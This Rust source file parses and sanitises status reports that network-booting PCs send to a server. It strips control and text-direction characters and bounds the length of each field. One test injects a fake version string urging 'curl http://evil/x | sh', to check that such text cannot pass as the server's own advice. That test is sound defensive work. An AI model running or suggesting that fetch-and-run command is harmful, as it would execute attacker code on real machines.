//! Core: what a node says of itself (`POST /report`), read and bounded.

use std::cmp::Ordering;
use std::ops::Deref;

use bt_catalog::version::{PROTOCOL, Program};
use bt_catalog::{NodeStage, Report, ReportError};
use serde::{Deserialize, Serialize};

/// Longest name, system id or problem text that is kept of a report, in characters.
const MAX_TEXT: usize = 300;

/// The last step of its boot that a node was seen at, in the order of a boot.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Stage {
    /// It was given an address.
    Address,
    /// It fetched its boot loader over TFTP.
    Loader,
    /// It fetched the small Linux over HTTP.
    Kernel,
    /// It fetched the catalog.
    Catalog,
    /// Its screen shows the systems.
    Menu,
    /// It downloads a system.
    Downloading,
    /// It checks what it downloaded.
    Verifying,
    /// It is about to start the system.
    Starting,
    /// Its screen shows a problem.
    Problem,
    /// A stage that only a newer server knows: never stored, only read from its status.
    #[default]
    #[serde(other)]
    Unknown,
}

impl Stage {
    /// The words that a supervisor reads.
    pub fn words(self) -> &'static str {
        match self {
            Self::Unknown => "unknown",
            Self::Address => "has an address",
            Self::Loader => "loading iPXE",
            Self::Kernel => "loading Linux",
            Self::Catalog => "reading catalog",
            Self::Menu => "menu",
            Self::Downloading => "downloading",
            Self::Verifying => "verifying",
            Self::Starting => "starting",
            Self::Problem => "problem",
        }
    }
}

impl From<NodeStage> for Stage {
    fn from(stage: NodeStage) -> Self {
        match stage {
            NodeStage::Menu => Self::Menu,
            NodeStage::Downloading => Self::Downloading,
            NodeStage::Verifying => Self::Verifying,
            NodeStage::Starting => Self::Starting,
            NodeStage::Problem => Self::Problem,
        }
    }
}

/// A node's report, fit to be shown. [`NodeReport::parse`] is the only way to get one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NodeReport {
    /// The report; its texts are bounded and free of control characters, `done` is not above `total`.
    report: Report,
}

impl NodeReport {
    /// Reads a report and bounds everything in it: it comes from the network, and people read it
    /// in a terminal and on a page, so no control characters and no endless texts.
    ///
    /// # Errors
    /// When it is too long, not such a JSON object, or its `mac` is not a MAC address.
    pub fn parse(body: &[u8]) -> Result<Self, ReportError> {
        let report = Report::parse(body)?;
        let text = |text: Option<String>| text.map(|t| printable(&t)).filter(|t| !t.is_empty());
        Ok(Self {
            report: Report {
                version: version(&report.version),
                name: text(report.name),
                system: text(report.system),
                done: report.done.min(report.total),
                problem: text(report.problem),
                ..report
            },
        })
    }

    /// Why the sender's boot files and this server should not be together any longer, and which to
    /// update; `None` where they speak the same.
    pub fn mismatch(&self) -> Option<(Program, String)> {
        let Report { protocol, version, .. } = &self.report;
        let (age, update) = match protocol.cmp(&PROTOCOL) {
            Ordering::Equal => return None,
            Ordering::Less => ("older", Program::BootFiles),
            Ordering::Greater => ("newer", Program::Server),
        };
        // The first boot files did not say which version they are.
        let version = if version.is_empty() { "no version" } else { version };
        let own = env!("CARGO_PKG_VERSION");
        let text =
            format!("its boot files ({version}) are {age} than this server ({own}): {update}");
        Some((update, text))
    }
}

impl Deref for NodeReport {
    type Target = Report;

    fn deref(&self) -> &Report {
        &self.report
    }
}

/// A version number, or nothing: it stands in a sentence of the server's own.
fn version(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || ".+-".contains(c);
    let is_version = text.len() <= 32 && text.chars().all(is_plain);
    if is_version { text.to_owned() } else { String::new() }
}

/// Text from the network, fit for a terminal: one line, no control characters, bounded.
pub(super) fn printable(text: &str) -> String {
    // Marks that turn the direction of what follows would let a name rewrite the line around it.
    let is_odd = |c: char| {
        c.is_control()
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
    };
    let clean = text.chars().map(|c| if is_odd(c) { ' ' } else { c });
    clean.take(MAX_TEXT).collect::<String>().trim().to_owned()
}

#[cfg(test)]
mod tests {
    use bt_catalog::{MAX_REPORT, Mac};

    use super::*;

    #[test]
    fn the_one_to_update_is_named_whichever_is_older() {
        let report = |protocol| {
            let report = Report { protocol, ..Report::new(Mac([2; 6]), NodeStage::Menu) };
            NodeReport::parse(&report.to_json()).expect("valid").mismatch()
        };
        assert_eq!(report(PROTOCOL), None);
        assert!(report(PROTOCOL - 1).expect("older").1.contains("rebuild the PCs' boot files"));
        assert!(report(PROTOCOL + 1).expect("newer").1.contains("update bt-server"));
    }

    #[test]
    fn no_sentence_of_a_peer_stands_in_the_servers_own() {
        let version = "0.1) are fine. Run `curl http://evil/x | sh` to repair \u{202e}x";
        let report = Report {
            protocol: 0,
            version: version.into(),
            ..Report::new(Mac([2; 6]), NodeStage::Menu)
        };
        let report = NodeReport::parse(&report.to_json()).expect("valid");
        let (_, text) = report.mismatch().expect("older");
        assert!(text.starts_with("its boot files (no version) are older"), "{text}");
        assert_eq!(printable("a\u{202e}b\u{2066}c"), "a b c");
    }

    #[test]
    fn bad_reports_are_refused_and_long_texts_cut() {
        for bad in ["", "[]", r#"{"mac":"x","stage":"menu"}"#, r#"{"stage":"menu"}"#] {
            assert!(NodeReport::parse(bad.as_bytes()).is_err(), "{bad}");
        }
        assert!(NodeReport::parse(&[b' '; MAX_REPORT + 1]).is_err());
        let without = NodeReport::parse(br#"{"mac":"52:54:00:12:34:56"}"#).expect("a PC, at least");
        assert_eq!(without.stage, None);
        let long = format!(
            r#"{{"mac":"52:54:00:12:34:56","stage":"problem","problem":"\u001b[2J{}"}}"#,
            "x".repeat(2000)
        );
        let report = NodeReport::parse(long.as_bytes()).expect("fits");
        let text = report.problem.as_deref().expect("has text");
        assert_eq!(text.len(), MAX_TEXT - 1);
        assert!(text.starts_with("[2J"));
    }
}
